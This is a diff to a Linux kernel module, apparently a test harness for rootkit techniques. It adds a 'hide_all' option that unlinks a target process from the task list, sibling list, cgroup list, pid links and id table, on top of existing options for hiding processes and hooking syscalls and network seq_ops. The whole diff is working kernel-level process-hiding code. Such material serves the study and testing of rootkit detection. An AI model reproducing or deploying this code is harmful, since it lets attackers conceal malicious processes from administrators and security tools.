@@ -13,6 +13,7 @@
  *	hide_pid=N       which process is hidden by
  *	hide_proc=1        from the names in /proc: its own iterate_shared
  *	hide_idr=1         from the table of ids: /proc, iterators, kill
+ *	hide_all=1         from every list and table that leads to it
  *	hook_seq=1       show of tcp4_seq_ops
  *	hook_syscall=NR  that entry of sys_call_table
  *	hook_dispatcher=1  the call of getpid in x64_sys_call, or its entry in
@@ -34,11 +35,12 @@
 #include <linux/pid_namespace.h>
 #include <linux/rbtree_latch.h>
 #include <linux/sched.h>
+#include <linux/sched/task.h>
 #include <linux/seq_file.h>
 #include <linux/version.h>
 
 static unsigned long lookup;
-static int hide_list, hide_sysfs, hide_tree, hide_pid, hide_proc, hide_idr;
+static int hide_list, hide_sysfs, hide_tree, hide_pid, hide_proc, hide_idr, hide_all;
 static int hook_seq, hook_syscall = -1, hook_dispatcher, hook_start;
 static int hook_ftrace, hook_kprobe, hook_netfilter;
 module_param(lookup, ulong, 0);
@@ -48,6 +50,7 @@ module_param(hide_tree, int, 0);
 module_param(hide_pid, int, 0);
 module_param(hide_proc, int, 0);
 module_param(hide_idr, int, 0);
+module_param(hide_all, int, 0);
 module_param(hook_seq, int, 0);
 module_param(hook_syscall, int, 0);
 module_param(hook_dispatcher, int, 0);
@@ -145,6 +148,33 @@ static int hide_from_idr(void)
 
 	was = idr_replace(&ns->idr, NULL, hide_pid);
 	return IS_ERR(was) ? PTR_ERR(was) : 0;
+}
+
+/*
+ * Only the scheduler and its own memory know of it then: no list of tasks, of
+ * its parent's children, of its cgroup's or of its ids has it, and no id.
+ */
+static int hide_from_all(void)
+{
+	rwlock_t *tasks = find("tasklist_lock");
+	spinlock_t *cgroups = find("css_set_lock");
+	struct pid *pid = find_get_pid(hide_pid);
+	struct task_struct *t = get_pid_task(pid, PIDTYPE_PID);
+
+	put_pid(pid);
+	if (!tasks || !cgroups || !t)
+		return -ENOENT;
+	spin_lock_irq(cgroups);
+	list_del_init(&t->cg_list);
+	spin_unlock_irq(cgroups);
+	write_lock_irq(tasks);
+	list_del_init(&t->tasks);
+	list_del_init(&t->sibling);
+	for (int type = 0; type < PIDTYPE_MAX; type++)
+		hlist_del_init(&t->pid_links[type]);
+	write_unlock_irq(tasks);
+	put_task_struct(t);
+	return hide_from_idr();
 }
 
 /* --- hooks --- */
@@ -295,6 +325,8 @@ static int __init icetest_init(void)
 		r = hide_from_proc();
 	if (!r && hide_idr)
 		r = hide_from_idr();
+	if (!r && hide_all)
+		r = hide_from_all();
 	if (!r && hook_seq)
 		r = change_seq();
 	if (!r && hook_syscall >= 0)
